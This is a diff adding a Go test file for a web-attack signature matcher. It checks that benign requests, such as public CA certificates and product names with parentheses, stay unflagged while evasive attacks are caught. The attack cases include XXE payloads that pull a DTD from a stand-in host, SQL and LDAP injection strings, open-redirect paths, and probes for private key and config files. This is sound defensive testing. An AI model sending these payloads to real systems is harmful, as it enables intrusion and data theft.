@@ -1,0 +1,135 @@
+package patterns
+
+// Cases from the review of the catalogue commits 1a0c719..27ee169 (issue 8):
+// benign requests those commits flagged, and attacks they let through.
+
+import (
+	"strings"
+	"testing"
+)
+
+func review8Req(uri string) *Request {
+	path, query, _ := strings.Cut(uri, "?")
+	return &Request{Method: []byte("GET"), Path: []byte(path), Query: []byte(query),
+		UA: []byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")}
+}
+
+func review8Hits(t *testing.T, m *Matcher, uri string, status int) map[string]bool {
+	t.Helper()
+	r := review8Req(uri)
+	got := map[string]bool{}
+	for _, h := range KeepAnswered(m.Match(r, nil), status, r.Query) {
+		got[h.ID] = true
+	}
+	return got
+}
+
+// Benign requests the reviewed commits flag (status, the signature that must stay quiet).
+var review8Benign = []struct {
+	uri    string
+	status int
+	id     string
+}{
+	// sensitive-key-file (10: one request bans): public certificates and signing keys served on purpose
+	{"/ca.pem", 200, "sensitive-key-file"},
+	{"/gpg.key", 200, "sensitive-key-file"},                      // apt repository key at the root (Grafana's /gpg.key)
+	{"/keys/nginx_signing.key", 200, "sensitive-key-file"},       // nginx.org's package signing key
+	{"/certs/isrgrootx1.pem", 200, "sensitive-key-file"},         // Let's Encrypt's root, as letsencrypt.org serves it
+	{"/DigiCertGlobalRootCA.crt.pem", 200, "sensitive-key-file"}, // cacerts.digicert.com
+	{"/r1.pem", 200, "sensitive-key-file"},                       // i.pki.goog
+	{"/pki/root-ca.pem", 200, "sensitive-key-file"},              // a company's "install our CA" page
+	// sensitive-server-config (10): Tomcat's bundled docs webapp serves this file
+	{"/docs/appdev/sample/web.xml", 200, "sensitive-server-config"},
+	// ldap-identity-breakout (10): product, hotel and people names
+	{"/shop?name=T-Shirt (L) (Blue)", 200, "ldap-identity-breakout"},
+	{"/shop?name=Cable (2m)(black)", 200, "ldap-identity-breakout"},
+	{"/hotels?name=Grand Hotel (5*)", 200, "ldap-identity-breakout"},
+	{"/people?fullname=Mary (Molly) (Smith)", 200, "ldap-identity-breakout"},
+	// sqli-libinjection via sqlTail (10): feet/inches and code searches
+	{"/shop?length=8'", 200, "sqli-libinjection"},
+	{"/shop?q=6'", 200, "sqli-libinjection"},
+	{"/search?q=arr.length--", 200, "sqli-libinjection"},
+	{"/search?q=node_count--", 200, "sqli-libinjection"},
+	{"/search?q=learn node.js --", 200, "sqli-libinjection"},
+	// nosqli-operator (10): code searches on a developer site
+	{"/search?q=db.users.insert({name: \"x\"});", 200, "nosqli-operator"},
+	{"/search?q=app.get({ path: /.*/ })", 200, "nosqli-operator"},
+	{"/search?q=var s = 'x'; return s", 200, "nosqli-operator"},
+	// 5-point ones: two such requests ban
+	{"///cdn.example.com/app.js", 404, "open-redirect-path"}, // a crawler joining //cdn... to a root base
+	{"///photo.jpeg", 404, "open-redirect-path"},             // extension missing from fileExts
+	{"///font.woff", 404, "open-redirect-path"},
+	{"///app.js.map", 404, "open-redirect-path"},
+	{"/design/tokens.yml", 200, "sensitive-key-list"}, // design tokens
+	{"/docs/common-errors.txt", 200, "sensitive-log-path"},
+	{"/lectures/week1-debug.txt", 200, "sensitive-log-path"},
+	{"/admin/users?cn=smi*", 200, "ldap-identity-wildcard"}, // directory admin search
+	{"/search?q=how to delete from wp_options autoload", 200, "sqli-cms-table"},
+	{"/api2/repos/abc/file/?p=/backups/db.sql", 200, "param-dump-path"}, // Seafile's file API
+	{"/download?file=/files/ca.pem", 200, "param-dump-path"},
+	{"/oauth/authorize?client_id=a&redirect_uri=http://lvh.me:3000/auth/callback", 200, "ssrf-rebind-domain"},
+}
+
+func TestReview8BenignQuiet(t *testing.T) {
+	m, err := Compile(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range review8Benign {
+		if review8Hits(t, m, c.uri, c.status)[c.id] {
+			t.Errorf("benign GET %s (%d): %s fired", c.uri, c.status, c.id)
+		}
+	}
+}
+
+// Attacks the reviewed commits let through (any of the ids must fire,
+// answered 404).
+var review8Evasions = []struct {
+	uri string
+	ids string
+}{
+	{"/x?xml=<!DOCTYPE x PUBLIC \"-//A//B\" \"http://www.w3.org.evil.example/x.dtd\">", "xxe-entity"},
+	{"/x?xml=<!DOCTYPE x PUBLIC \"-//A//B\" \"http://www.w3.org@evil.example/x.dtd\">", "xxe-entity"},
+	{"/a?id='1' or 1", "sqli-libinjection"},
+	{"/a?id='1' xor 1", "sqli-libinjection"},
+	{"/a?id='admin' or 1", "sqli-libinjection"},
+	{"/a?id='1' having 1", "sqli-libinjection"},
+	{"/a?pubid=4'%23", "sqli-libinjection"},
+	{"/a?id=Wp_Users--", "sqli-libinjection"},
+	{"/a?id=wp_users%23", "sqli-libinjection"},
+	{"/a?id=wp_users/*", "sqli-libinjection"},
+	{"/a?q=x from/**/wp_users", "sqli-cms-table|sqli-libinjection"},
+	{"/a?q=x from`wp_users`", "sqli-cms-table|sqli-libinjection"},
+	{"/a?q=x from(wp_users)", "sqli-cms-table|sqli-libinjection"},
+	{"/%C0%AFevil.example/", "open-redirect-path"},
+	{"/a?j_username=admin*)", "ldap-identity-breakout"},
+	{"/a?email=admin*)", "ldap-identity-breakout"},
+	// still caught after the fixes above
+	{"///evil.example/", "open-redirect-path"},
+	{"/%5cevil.example/app.js", "open-redirect-path"},
+	{"/a?user=admin*)", "ldap-identity-breakout"},
+	{"/a?user=x)(cn=*", "ldap-identity-breakout"},
+	{"/a?id=1')", "sqli-libinjection"},
+	{"/a?id=4'--", "sqli-libinjection"},
+	{"/id_rsa.pem", "sensitive-key-file"},
+	{"/ssl/server.key", "sensitive-key-file"},
+	{"/web.xml", "sensitive-server-config"},
+	{"/a?q=select * from wp_users where 1", "sqli-cms-table|sqli-libinjection"},
+}
+
+func TestReview8EvasionsCaught(t *testing.T) {
+	m, err := Compile(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range review8Evasions {
+		got := review8Hits(t, m, c.uri, 404)
+		ok := false
+		for _, id := range strings.Split(c.ids, "|") {
+			ok = ok || got[id]
+		}
+		if !ok {
+			t.Errorf("attack GET %s: none of %s fired", c.uri, c.ids)
+		}
+	}
+}
